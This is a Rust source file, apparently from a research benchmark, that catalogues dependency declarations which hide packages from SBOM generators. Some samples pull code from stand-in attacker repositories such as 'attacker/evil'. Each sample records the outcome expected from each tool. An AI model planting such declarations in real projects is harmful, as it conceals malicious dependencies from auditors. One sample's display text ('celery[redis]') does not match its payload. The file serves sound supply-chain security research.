@@ -1,0 +1,360 @@
+//! The attack-sample catalog.
+//!
+//! The first six samples are exactly the rows of the paper's Table IV
+//! (including the paper's `urlib3` spelling); the remainder extend the
+//! catalog with corner cases from the §VII benchmark.
+
+use sbomdiff_types::Ecosystem;
+
+use crate::evaluate::CellOutcome;
+
+/// What a specific tool is expected to report for a sample (a Table IV
+/// cell).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Expectation {
+    /// The tool reports nothing for the declaration (a `-` cell).
+    Nothing,
+    /// The tool reports this name/version.
+    Reports(&'static str, Option<&'static str>),
+    /// The tool reports the name with some range/verbatim version text.
+    ReportsNameOnly(&'static str),
+}
+
+impl Expectation {
+    /// Checks an observed outcome against this expectation.
+    pub fn matches(&self, outcome: &CellOutcome) -> bool {
+        match (self, outcome) {
+            (Expectation::Nothing, CellOutcome::Missed) => true,
+            (Expectation::Reports(name, version), CellOutcome::Detected(n, v)) => {
+                n == name && v.as_deref() == *version
+            }
+            (Expectation::ReportsNameOnly(name), CellOutcome::Detected(n, _)) => n == name,
+            _ => false,
+        }
+    }
+}
+
+/// One attack pattern: a metadata payload concealing a package.
+#[derive(Debug, Clone)]
+pub struct AttackSample {
+    /// Short identifier.
+    pub id: &'static str,
+    /// The declaration as the paper's Table IV presents it.
+    pub display: &'static str,
+    /// Target ecosystem (Python for the paper's Table IV; the extended
+    /// catalog covers other ecosystems, per the paper's §X future work).
+    pub ecosystem: Ecosystem,
+    /// The metadata file the payload is written to.
+    pub file_name: &'static str,
+    /// The payload content (may span lines).
+    pub payload: &'static str,
+    /// Extra files the payload references (path, content).
+    pub extra_files: &'static [(&'static str, &'static str)],
+    /// The package pip would actually install/fetch (the concealed one).
+    pub concealed: &'static str,
+    /// Expected per-tool outcomes: (Trivy, Syft, sbom-tool, GitHub DG).
+    pub expected: [Expectation; 4],
+}
+
+/// The six rows of Table IV.
+pub const TABLE_IV_SAMPLES: [AttackSample; 6] = [
+    AttackSample {
+        id: "extras-space",
+        display: "requests [security]>=2.8.1",
+        ecosystem: Ecosystem::Python,
+        file_name: "requirements.txt",
+        payload: "requests [security]>=2.8.1\n",
+        extra_files: &[],
+        concealed: "requests",
+        expected: [
+            Expectation::Nothing,
+            Expectation::Nothing,
+            Expectation::Nothing,
+            Expectation::Nothing,
+        ],
+    },
+    AttackSample {
+        id: "backslash-continuation",
+        display: "numpy \\ == \\ 1.19.2",
+        ecosystem: Ecosystem::Python,
+        file_name: "requirements.txt",
+        payload: "numpy \\\n==\\\n1.19.2\n",
+        extra_files: &[],
+        concealed: "numpy",
+        expected: [
+            Expectation::Nothing,
+            Expectation::Nothing,
+            // sbom-tool salvages the bare name and pins the registry's
+            // latest — reporting numpy 1.25.2 while pip installs 1.19.2.
+            Expectation::Reports("numpy", Some("1.25.2")),
+            Expectation::Nothing,
+        ],
+    },
+    AttackSample {
+        id: "requirements-include",
+        display: "-r SOME_REQS.txt",
+        ecosystem: Ecosystem::Python,
+        file_name: "requirements.txt",
+        payload: "-r SOME_REQS.txt\n",
+        extra_files: &[("SOME_REQS.txt", "requests==2.8.1\n")],
+        concealed: "requests",
+        expected: [
+            Expectation::Nothing,
+            Expectation::Nothing,
+            Expectation::Nothing,
+            Expectation::Nothing,
+        ],
+    },
+    AttackSample {
+        id: "local-wheel",
+        display: "./path/to/local_pkg.whl",
+        ecosystem: Ecosystem::Python,
+        file_name: "requirements.txt",
+        payload: "./path/to/local_pkg.whl\n",
+        extra_files: &[],
+        concealed: "local_pkg",
+        expected: [
+            Expectation::Nothing,
+            Expectation::Nothing,
+            Expectation::Nothing,
+            Expectation::Nothing,
+        ],
+    },
+    AttackSample {
+        id: "remote-wheel",
+        display: "https://remote_pkg.whl",
+        ecosystem: Ecosystem::Python,
+        file_name: "requirements.txt",
+        payload: "https://remote_pkg.whl\n",
+        extra_files: &[],
+        concealed: "remote_pkg",
+        expected: [
+            Expectation::Nothing,
+            Expectation::Nothing,
+            Expectation::Nothing,
+            Expectation::Nothing,
+        ],
+    },
+    AttackSample {
+        id: "vcs-install",
+        display: "urlib3 @ git link@hash",
+        ecosystem: Ecosystem::Python,
+        file_name: "requirements.txt",
+        // The paper's sample (with its original 'urlib3' spelling — itself
+        // a typosquat-shaped name).
+        payload: "urlib3 @ git+https://github.com/urllib3/urllib3@2a7eb51\n",
+        extra_files: &[],
+        concealed: "urlib3",
+        expected: [
+            Expectation::Nothing,
+            Expectation::Nothing,
+            Expectation::Nothing,
+            Expectation::Nothing,
+        ],
+    },
+];
+
+/// Extended corner-case patterns from the §VII benchmark.
+pub const EXTENDED_SAMPLES: [AttackSample; 5] = [
+    AttackSample {
+        id: "attached-extras-pinned",
+        display: "celery[redis]==5.3.0",
+        ecosystem: Ecosystem::Python,
+        file_name: "requirements.txt",
+        payload: "requests[socks]==2.31.0\n",
+        extra_files: &[],
+        concealed: "requests",
+        expected: [
+            // Trivy/Syft: the bracket breaks their name token — dropped.
+            Expectation::Nothing,
+            Expectation::Nothing,
+            // sbom-tool strips the extras and reports the pin (but never
+            // installs the extra's dependencies, a silent omission).
+            Expectation::Reports("requests", Some("2.31.0")),
+            Expectation::Reports("requests", Some("2.31.0")),
+        ],
+    },
+    AttackSample {
+        id: "spaced-pin",
+        display: "requests == 2.31.0",
+        ecosystem: Ecosystem::Python,
+        file_name: "requirements.txt",
+        payload: "requests == 2.31.0\n",
+        extra_files: &[],
+        concealed: "requests",
+        expected: [
+            Expectation::Reports("requests", Some("2.31.0")),
+            Expectation::Reports("requests", Some("2.31.0")),
+            Expectation::Reports("requests", Some("2.31.0")),
+            // GitHub DG reports the spec text verbatim — the version field
+            // reads "== 2.31.0", which version matchers treat as wrong.
+            Expectation::Reports("requests", Some("== 2.31.0")),
+        ],
+    },
+    AttackSample {
+        id: "marker-smuggle",
+        display: "requests==2.8.1; sys_platform == 'win32'",
+        ecosystem: Ecosystem::Python,
+        file_name: "requirements.txt",
+        payload: "requests==2.8.1; sys_platform == 'win32'\n",
+        extra_files: &[],
+        concealed: "requests",
+        // Inverse attack: nothing is installed on Linux, but every tool
+        // reports it — a false positive that masks the true dependency set.
+        expected: [
+            Expectation::Reports("requests", Some("2.8.1")),
+            Expectation::Reports("requests", Some("2.8.1")),
+            Expectation::Reports("requests", Some("2.8.1")),
+            Expectation::Reports("requests", Some("2.8.1")),
+        ],
+    },
+    AttackSample {
+        id: "editable-install",
+        display: "-e ./vendored/evil",
+        ecosystem: Ecosystem::Python,
+        file_name: "requirements.txt",
+        payload: "-e ./vendored/evil\n",
+        extra_files: &[],
+        concealed: "evil",
+        expected: [
+            Expectation::Nothing,
+            Expectation::Nothing,
+            Expectation::Nothing,
+            Expectation::Nothing,
+        ],
+    },
+    AttackSample {
+        id: "hash-option-tail",
+        display: "requests==2.31.0 --hash=sha256:...",
+        ecosystem: Ecosystem::Python,
+        file_name: "requirements.txt",
+        payload: "requests==2.31.0 --hash=sha256:deadbeef\n",
+        extra_files: &[],
+        concealed: "requests",
+        expected: [
+            // The trailing option breaks Trivy/Syft's version token and
+            // sbom-tool's anchored grammar; GitHub DG handles pip-compile
+            // hash options.
+            Expectation::Nothing,
+            Expectation::Nothing,
+            Expectation::Nothing,
+            Expectation::Reports("requests", Some("2.31.0")),
+        ],
+    },
+];
+
+/// Cross-ecosystem confusion patterns (§X future work: "extend our
+/// benchmark to support languages beyond just Python").
+pub const CROSS_ECOSYSTEM_SAMPLES: [AttackSample; 4] = [
+    AttackSample {
+        id: "cargo-raw-only",
+        display: "Cargo.toml: malicious-crate = \"1.0\" (no lockfile)",
+        ecosystem: Ecosystem::Rust,
+        file_name: "Cargo.toml",
+        payload: "[package]\nname = \"app\"\nversion = \"0.1.0\"\n\n[dependencies]\nmalicious-crate = \"1.0\"\n",
+        extra_files: &[],
+        concealed: "malicious-crate",
+        // Only GitHub DG reads raw Cargo.toml (Table II) — three of four
+        // tools never see the dependency at all.
+        expected: [
+            Expectation::Nothing,
+            Expectation::Nothing,
+            Expectation::Nothing,
+            Expectation::ReportsNameOnly("malicious-crate"),
+        ],
+    },
+    AttackSample {
+        id: "gemfile-git-source",
+        display: "Gemfile: gem 'evil', git: 'https://...'",
+        ecosystem: Ecosystem::Ruby,
+        file_name: "Gemfile",
+        payload: "source 'https://rubygems.org'\ngem 'evil', git: 'https://github.com/attacker/evil'\n",
+        extra_files: &[],
+        concealed: "evil",
+        // VCS-sourced gems are skipped even by the one tool that parses
+        // Gemfiles — full evasion.
+        expected: [
+            Expectation::Nothing,
+            Expectation::Nothing,
+            Expectation::Nothing,
+            Expectation::Nothing,
+        ],
+    },
+    AttackSample {
+        id: "package-json-git-spec",
+        display: "package.json: \"evil\": \"github:attacker/evil\"",
+        ecosystem: Ecosystem::JavaScript,
+        file_name: "package.json",
+        payload: "{\"name\": \"app\", \"dependencies\": {\"evil\": \"github:attacker/evil\"}}",
+        extra_files: &[],
+        concealed: "evil",
+        // GitHub DG reports the name with an unmatchable verbatim spec —
+        // visible in the SBOM but invisible to version-matching scanners;
+        // Trivy/Syft claim package.json support but extract nothing (§V-A).
+        expected: [
+            Expectation::Nothing,
+            Expectation::Nothing,
+            Expectation::Nothing,
+            Expectation::ReportsNameOnly("evil"),
+        ],
+    },
+    AttackSample {
+        id: "composer-dev-section",
+        display: "composer.json require-dev hides a package from Trivy",
+        ecosystem: Ecosystem::Php,
+        file_name: "composer.json",
+        payload: "{\"name\": \"app/app\", \"require\": {\"php\": \">=8.0\"}, \"require-dev\": {\"attacker/evil\": \"^1.0\"}}",
+        extra_files: &[],
+        concealed: "attacker/evil",
+        // Production-only tools (§V-F) never report dev-scoped packages —
+        // and the dev section still installs on developer machines.
+        expected: [
+            Expectation::Nothing,
+            Expectation::Nothing,
+            Expectation::Nothing,
+            Expectation::ReportsNameOnly("attacker/evil"),
+        ],
+    },
+];
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn table_iv_has_six_rows() {
+        assert_eq!(TABLE_IV_SAMPLES.len(), 6);
+        let ids: std::collections::BTreeSet<&str> =
+            TABLE_IV_SAMPLES.iter().map(|s| s.id).collect();
+        assert_eq!(ids.len(), 6);
+    }
+
+    #[test]
+    fn only_numpy_row_has_a_detection() {
+        for sample in &TABLE_IV_SAMPLES {
+            let detections = sample
+                .expected
+                .iter()
+                .filter(|e| !matches!(e, Expectation::Nothing))
+                .count();
+            if sample.id == "backslash-continuation" {
+                assert_eq!(detections, 1);
+            } else {
+                assert_eq!(detections, 0, "{} should be all dashes", sample.id);
+            }
+        }
+    }
+
+    #[test]
+    fn expectation_matching() {
+        assert!(Expectation::Nothing.matches(&CellOutcome::Missed));
+        assert!(!Expectation::Nothing
+            .matches(&CellOutcome::Detected("x".into(), Some("1".into()))));
+        assert!(Expectation::Reports("numpy", Some("1.25.2"))
+            .matches(&CellOutcome::Detected("numpy".into(), Some("1.25.2".into()))));
+        assert!(!Expectation::Reports("numpy", Some("1.25.2"))
+            .matches(&CellOutcome::Detected("numpy".into(), Some("1.19.2".into()))));
+        assert!(Expectation::ReportsNameOnly("x")
+            .matches(&CellOutcome::Detected("x".into(), None)));
+    }
+}
